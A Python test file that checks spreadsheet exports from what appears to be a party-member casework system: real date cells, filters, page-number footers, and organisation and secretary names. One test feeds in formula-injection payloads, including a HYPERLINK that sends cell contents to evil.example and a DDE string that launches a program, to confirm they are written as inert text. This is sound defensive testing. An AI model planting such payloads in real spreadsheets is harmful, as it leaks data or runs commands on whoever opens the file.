"""The workbooks as a person uses them: dates are dates (they sort and filter), the ledger has filter buttons, every
sheet prints its page numbers, no text becomes a formula, and the quarterly flow's table names its organisation and
secretary. Read back with openpyxl, on SQLite and PostgreSQL."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select

from casework import db as casework_db
from models.store import Member
from reports import export_forms, ledger_xlsx, roster_xlsx, statistics_xlsx, unreachable_xlsx
from tests.reports.cases import add_full_member, drive_suspended, new_campaign
from tests.reports.test_statistics import GOOD

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet evaluates when typed first
FIRST_ROW = 4  # the lists' first data row (title, unit line, headings above)


def sheet(path):
    return load_workbook(path).active


def column_of(ws, heading: str) -> int:
    return next(c.column for c in ws[3] if c.value == heading)


def test_list_dates_are_dates(orgs, papers, tmp_path):
    with orgs.reading() as s:
        members = {m.name: m for m in s.scalars(select(Member))}
        ledger = sheet(ledger_xlsx(s, "TOWN", papers["campaign"], tmp_path / "ledger.xlsx"))
        roster = sheet(roster_xlsx(s, "TOWN", papers["campaign"], tmp_path / "roster.xlsx"))
        unreachable = sheet(unreachable_xlsx(s, "TOWN", papers["campaign"], tmp_path / "unreachable.xlsx"))
    for ws, birth, joined, fmt in ((ledger, "出生日期", "加入党组织日期", "yyyy.mm.dd"),
                                   (roster, "出生年月", "入党时间", "yyyy.mm"),
                                   (unreachable, "出生年月", "入党时间", "yyyy.mm")):
        name_col, birth_col, joined_col = column_of(ws, "姓名"), column_of(ws, birth), column_of(ws, joined)
        rows = range(FIRST_ROW, FIRST_ROW + (1 if ws is unreachable else 4))
        for r in rows:
            m = members[ws.cell(row=r, column=name_col).value]
            b, j = ws.cell(row=r, column=birth_col), ws.cell(row=r, column=joined_col)
            assert b.is_date and j.is_date, (ws.title, b.value, j.value)
            assert b.value.date() == m.birth_date and j.value.date() == m.joined_on  # the real day underneath
            assert b.number_format == j.number_format == fmt  # printed as the paper prints it
        assert isinstance(ws.cell(row=FIRST_ROW, column=1).value, int)  # 序号


def test_ledger_filters_and_every_sheet_numbers_its_pages(orgs, papers, tmp_path):
    with orgs.reading() as s:
        paths = export_forms(s, "TOWN", tmp_path, campaign_id=papers["campaign"])
    ledger = sheet(paths["ledger"][1])
    assert ledger.auto_filter.ref == "A3:M7"  # the heading row and the four cases
    for key in ("roster", "unreachable", "ledger", "statistics"):
        ws = sheet(paths[key][1])
        assert ws.oddFooter.center.text == "第 &P 页 / 共 &N 页", key
    assert not sheet(paths["roster"][1]).auto_filter.ref


def test_statistics_filing_date_is_a_date(tmp_path):
    ws = sheet(statistics_xlsx(GOOD, tmp_path / "s.xlsx", org_name="某镇党委", period_label="2026年第一季度",
                               filled_on=dt.date(2026, 3, 25)))
    (day,) = [c for row in ws.iter_rows() for c in row if getattr(c, "is_date", False)]
    assert day.value.date() == dt.date(2026, 3, 25) and day.number_format == 'yyyy"年"m"月"d"日"'
    assert ws.cell(row=day.row, column=day.column - 2).value == "填报日期："
    # Free text stays text, as before.
    ws = sheet(statistics_xlsx(GOOD, tmp_path / "t.xlsx", filled_on="三月底"))
    assert any(c.value == "填报日期：三月底" for row in ws.iter_rows() for c in row)


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "position": "+SUM(1,2)",
    "remarks": "@SUM(A1:A9)",
}


def test_formula_like_text_stays_text(orgs, tmp_path):
    """Names, positions, remarks and phones that start like a formula are written as text that cannot evaluate, and
    read back unchanged; phones “-” and “+86 …” stay readable as written."""
    a = add_full_member(orgs, name=HOSTILE["name"], position=HOSTILE["position"], remarks=HOSTILE["remarks"],
                        phone="+86 139 1234 5678")
    b = add_full_member(orgs, name="=cmd|' /C calc'!A0", phone="-", position="-2+3", remarks="\t=1+1")
    c = add_full_member(orgs, name="王芳", phone="", position="=1+2")
    new_campaign(orgs)
    drive_suspended(orgs, b)
    with orgs.reading() as s:
        paths = export_forms(s, "TOWN", tmp_path, period_label="=1+2", leader="@张三", filled_by="-",
                             phone="+86 10 1234")
    written: set[str] = set()
    for key in ("roster", "unreachable", "ledger", "statistics"):
        ws = sheet(paths[key][1])
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (key, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    written.add(cell.value)
                    if cell.value.startswith(FORMULA_LEADS):
                        assert cell.quotePrefix, (key, cell.coordinate, cell.value)
    expected = {a.name, b.name, HOSTILE["position"], HOSTILE["remarks"], "+86 139 1234 5678", "-", "-2+3", "=1+2",
                "\t=1+1"}
    assert expected <= written, expected - written
    assert c.name in written
    stats = sheet(paths["statistics"][1])
    assert stats["A8"].value == "=1+2" and stats["A8"].data_type == "s"


def test_control_characters_do_not_break_the_export(orgs, tmp_path):
    """A record from before the entrance refused control characters still exports: the character is shown as �."""
    add_full_member(orgs, name="赵\x07六", position="司机\x1b[31m", remarks="第一行\n第二行")
    new_campaign(orgs)
    with orgs.reading() as s:
        path = roster_xlsx(s, "TOWN", None, tmp_path / "roster.xlsx")
        ledger = sheet(ledger_xlsx(s, "TOWN", None, tmp_path / "ledger.xlsx"))
    texts = {c.value for row in sheet(path).iter_rows() for c in row if isinstance(c.value, str)}
    assert "赵\ufffd六" in texts and "第一行\n第二行" in texts
    assert "司机\ufffd[31m" in {c.value for row in ledger.iter_rows() for c in row}


def test_quarterly_flow_names_the_organisation_and_its_secretary(orgs, papers, tmp_path, monkeypatch):
    """The quarterly statistics flow's workbook: 填报单位 the organisation's name (not its id), 负责领导 its secretary,
    统计时间 the quarter and the day, 填报日期 a date."""
    from flows.followups import export_statistics

    monkeypatch.setenv(casework_db.DEFAULT_URL_ENV, orgs.url)
    monkeypatch.setitem(casework_db._shared, orgs.url, orgs)  # the flow's shared store is the test's store
    monkeypatch.setenv("LOSTCONTACT_REPORTS_DIR", str(tmp_path))
    now = dt.datetime(2026, 3, 25, 1, 0, tzinfo=dt.timezone.utc)  # the schedule: 09:00 on 3-25, Asia/Shanghai
    result = export_statistics.fn("TOWN", now.isoformat())
    ws = sheet(Path(result["dir"]) / "statistics.xlsx")
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "填报单位：某镇党委" in texts and "填报单位（盖章）：某镇党委" in texts
    assert "负责领导（签字）：赵书记" in texts
    assert not any("TOWN" in t for t in texts)
    assert ws["A8"].value == "2026年第一季度（截至2026.03.25）"
    assert ws.row_dimensions[8].height >= 40  # its three wrapped lines show whole
    (day,) = [c for row in ws.iter_rows() for c in row if getattr(c, "is_date", False)]
    assert day.value.date() == dt.date(2026, 3, 25)
    assert ws.cell(row=8, column=2).value == result["table"]["A"]
